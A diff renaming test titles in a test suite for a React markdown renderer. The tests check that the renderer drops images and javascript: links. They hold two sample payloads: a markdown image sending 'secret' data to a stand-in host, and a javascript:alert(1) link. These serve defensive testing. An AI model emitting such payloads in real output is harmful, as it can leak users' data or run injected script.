@@ -19,7 +19,7 @@ describe('MarkdownText', () => {
     expect(screen.getByText('bold')).toBeInTheDocument()
   })
 
-  test('tags that part a prompt are its text, and so is what stands within them', () => {
+  test('shows prompt tags and their content as text', () => {
     const { container } = render(
       <MarkdownText
         text={'<rules>\nBe terse.\n</rules>\n\nSee <order>42</order>.\n\n- <b>one</b>'}
@@ -33,7 +33,7 @@ describe('MarkdownText', () => {
     ])
   })
 
-  test('lines stay lines, unless it is a document', () => {
+  test('keeps line breaks unless the text is a hard-wrapped document', () => {
     const breaks = (isWrapped: boolean) =>
       render(
         <MarkdownText text={'Snow\nA **cat\nsleeps**'} isWrapped={isWrapped} />,
@@ -43,7 +43,7 @@ describe('MarkdownText', () => {
     expect(breaks(true)).toBe(0)
   })
 
-  test('fetches no picture: its address could carry data away', () => {
+  test('does not fetch pictures, whose URLs could leak data', () => {
     const { container } = render(<MarkdownText text="![chart](https://evil.test/?data=secret)" />)
 
     expect(container.querySelector('img')).toBeNull()
@@ -53,7 +53,7 @@ describe('MarkdownText', () => {
     )
   })
 
-  test('drops an address that would run code', () => {
+  test('drops a link with a javascript: URL', () => {
     render(<MarkdownText text="[press](javascript:alert(1))" />)
 
     expect(screen.getByText('press').closest('a')?.getAttribute('href') ?? '').not.toContain(
